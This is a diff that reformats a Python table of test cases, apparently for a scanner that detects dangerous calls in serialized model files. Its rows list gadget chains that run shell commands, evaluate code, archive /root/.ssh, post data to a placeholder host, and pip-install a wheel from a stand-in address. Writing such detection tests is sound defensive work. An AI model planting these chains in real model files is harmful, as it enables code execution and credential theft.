@@ -20,11 +20,17 @@ ROWS: tuple[tuple[str, Call], ...] = (
     ("ldconfig", C("ctypes.util:_findSoname_ldconfig", "x;id")),
     ("module-finder", C(C("builtins:getattr", C("modulefinder:ModuleFinder"), "run_script"), SOURCE)),
     ("event-loop", C("asyncio:run", C("asyncio:create_subprocess_shell", COMMAND))),
-    ("popen-fork", C("multiprocessing.popen_spawn_posix:Popen", C("multiprocessing:Process", None, S("os:system"), "n", (COMMAND,)))),
+    (
+        "popen-fork",
+        C("multiprocessing.popen_spawn_posix:Popen", C("multiprocessing:Process", None, S("os:system"), "n", (COMMAND,))),
+    ),
     ("spawn-main", C("multiprocessing.spawn:prepare", {"init_main_from_path": SOURCE})),
     ("import-main", C("multiprocessing.spawn:_fixup_main_from_path", SOURCE)),
     ("fork-server", C("multiprocessing.forkserver:main", 3, 4, ["os"], SOURCE)),
-    ("source-loader", C(C("builtins:getattr", C("importlib.machinery:SourcelessFileLoader", "m", "/tmp/toadstone-inert.pyc"), "load_module"))),
+    (
+        "source-loader",
+        C(C("builtins:getattr", C("importlib.machinery:SourcelessFileLoader", "m", "/tmp/toadstone-inert.pyc"), "load_module")),
+    ),
     ("zip-import", C(C("builtins:getattr", C("zipimport:zipimporter", "/tmp/toadstone-inert.zip"), "load_module"), "m")),
     ("exec-module", C("imp:load_source", "m", SOURCE)),
     ("compile-eval", C("builtins:eval", C("builtins:compile", CODE, "m", "eval"))),
@@ -37,7 +43,16 @@ ROWS: tuple[tuple[str, Call], ...] = (
     ("make-archive", C("shutil:make_archive", "/tmp/toadstone-inert", "zip", "/root/.ssh")),
     ("copy-tree", C("distutils.dir_util:copy_tree", "/root/.ssh", "/tmp/toadstone-inert")),
     ("file-handler", C("logging.handlers:HTTPHandler", f"{HOST}:{PORT}", "/k?", "POST")),
-    ("dict-configurator", C(C("builtins:getattr", C("logging.config:DictConfigurator", {"version": 1, "handlers": {"h": {"()": "os.system", "command": COMMAND}}}), "configure"))),
+    (
+        "dict-configurator",
+        C(
+            C(
+                "builtins:getattr",
+                C("logging.config:DictConfigurator", {"version": 1, "handlers": {"h": {"()": "os.system", "command": COMMAND}}}),
+                "configure",
+            )
+        ),
+    ),
     ("xml-rpc", C(C("builtins:getattr", C("xmlrpc.client:ServerProxy", URL), "run"), COMMAND)),
     ("ctypes-c", C(C("builtins:getattr", C("ctypes:CDLL", None), "system"), COMMAND.encode())),
     ("sqlite-load", C(C("builtins:getattr", C("sqlite3:connect", ":memory:"), "execute"), f"select load_extension('{LIBRARY}')")),
@@ -62,12 +77,24 @@ ROWS: tuple[tuple[str, Call], ...] = (
     ("pandas-sql", C("pandas:read_sql_query", "select load_extension('x')", f"sqlite:///{PICKLE}")),
     ("pandas-hdf", C("pandas:read_hdf", "http://198.51.100.7/x.h5")),
     ("torch-subprocess", C("torch._inductor.cpp_builder:run_compile_cmd", _FETCH, "/tmp")),
-    ("torch-rpc", C("torch.distributed.rpc.internal:_run_function", C("torch.distributed.rpc.internal:PythonUDF", S("os:system"), (COMMAND,), {}))),
-    ("torch-package", C(C("builtins:getattr", C("torch.package:PackageImporter", "/tmp/toadstone-inert.zip"), "import_module"), "m")),
+    (
+        "torch-rpc",
+        C(
+            "torch.distributed.rpc.internal:_run_function",
+            C("torch.distributed.rpc.internal:PythonUDF", S("os:system"), (COMMAND,), {}),
+        ),
+    ),
+    (
+        "torch-package",
+        C(C("builtins:getattr", C("torch.package:PackageImporter", "/tmp/toadstone-inert.zip"), "import_module"), "m"),
+    ),
     ("torch-sympy", C("torch.utils._sympy.reference:_run_sympy_handler", CODE)),
     ("sympy-parser", C("sympy.parsing.sympy_parser:stringify_expr", CODE, {}, {}, ())),
     ("scipy-matlab", C("scipy.io:loadmat", "/root/.ssh/x.mat")),
-    ("sklearn-fetch", C("sklearn.datasets._base:_fetch_remote", C("sklearn.datasets._base:RemoteFileMetadata", "x", URL, "00"), "/tmp")),
+    (
+        "sklearn-fetch",
+        C("sklearn.datasets._base:_fetch_remote", C("sklearn.datasets._base:RemoteFileMetadata", "x", URL, "00"), "/tmp"),
+    ),
     ("tf-load", C("tensorflow.python.saved_model.load:load", "/tmp/toadstone-inert")),
     ("keras-func", C("keras.src.legacy.saving.serialization:func_load", "4wAAAAA=")),
     ("hub-http", C("huggingface_hub.file_download:http_get", URL, C("builtins:open", "/tmp/toadstone-inert", "wb"))),
@@ -78,13 +105,16 @@ ROWS: tuple[tuple[str, Call], ...] = (
     ("twisted", C("twisted.python.reflect:namedAny", "os.system")),
     ("zope", C("zope.dottedname.resolve:resolve", "os.system")),
     ("traitlets", C("traitlets.utils.importstring:import_item", "os.system")),
-    ("click-runner", C(C("builtins:getattr", C("click.testing:CliRunner"), "invoke"), S("pip:main"), ["install", "http://198.51.100.7/x.whl"])),
+    (
+        "click-runner",
+        C(C("builtins:getattr", C("click.testing:CliRunner"), "invoke"), S("pip:main"), ["install", "http://198.51.100.7/x.whl"]),
+    ),
     ("conda", C("conda.gateways.subprocess:subprocess_call", COMMAND)),
     ("sh-module", C("sh:Command", "/bin/sh")),
     ("unknown-command", C("payload_utils.runner:go", _FETCH)),
     ("unknown-code", C("acme_models.hooks:restore", CODE)),
     ("unknown-address", C("acme_models.hooks:restore", {"weights": URL, "then": "exec"})),
-)  # fmt: skip
+)
 
 
 def cases() -> Iterator[Case]:
